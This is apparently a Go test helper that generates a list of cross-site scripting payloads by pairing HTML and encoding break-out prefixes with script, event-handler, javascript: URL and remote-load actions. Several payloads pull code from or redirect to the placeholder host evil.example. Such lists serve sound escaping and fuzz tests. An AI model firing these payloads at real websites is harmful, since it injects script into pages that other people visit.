package studio

import "strings"

// Payloads are texts with which attackers try to leave the place in a page that
// they are shown in: each way out of such a place, with each way to have a
// browser do something then.
func Payloads() []string {
	out := []string{hostile}
	for _, leave := range []string{
		"", `">`, `'>`, `" `, `' `, "` ", "</textarea>", "</title>", "</option></select>", "</script>", "-->", "]]>", "\x00\">", "\u2028\">", "＂＞", "%22%3E", "&quot;&gt;", "&#34;&#62;", "\\\">", "\n\n# \n",
	} {
		for _, act := range []string{
			"<script>alert(1)</script>", "<ScRiPt src=//evil.example>", "<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>", "<iframe srcdoc='<script>alert(1)</script>'>",
			"<math><mi xlink:href=javascript:alert(1)>x", "<base href=//evil.example/>", "<meta http-equiv=refresh content='0;url=//evil.example'>", "<form action=//evil.example><button>alert(1)",
			"<a href=javascript:alert(1)>x</a>", "<details open ontoggle=alert(1)>", "<style>@import '//evil.example'</style>", "onfocus=alert(1) autofocus x=", "style=background:url(//evil.example)",
			"[x](javascript:alert(1))", "{{template \"top\" .}}", "<input name=base value=alert(1)>",
		} {
			out = append(out, leave+act)
		}
	}
	return append(out, "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", " javascript:alert(1)", "data:text/html,<script>alert(1)</script>", "vbscript:alert(1)", "//evil.example/alert(1)",
		"<"+strings.Repeat("a", 2000)+" onload=alert(1)>", "\u202e<script>alert(1)</script>", "<script\u00a0src=//evil.example>", "<\u0131mg src=x onerror=alert(1)>")
}
